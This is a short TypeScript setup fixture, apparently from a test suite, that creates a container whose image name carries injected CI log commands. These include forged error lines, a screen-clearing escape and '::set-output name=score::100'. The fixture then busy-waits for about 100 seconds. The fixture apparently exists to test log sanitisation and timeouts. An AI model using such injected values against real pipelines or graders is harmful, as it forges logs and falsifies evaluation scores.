import { ask } from '../../tools.ts';

export default async function setup(): Promise<object> {
  const Image = '\n::error::forged\n\u001b[2J\r##[error]forged\u2028::set-output name=score::100';
  await ask('POST', '/containers/create', { Image });
  const end = Date.now() + 100_000;
  while (Date.now() < end);
  return {};
}
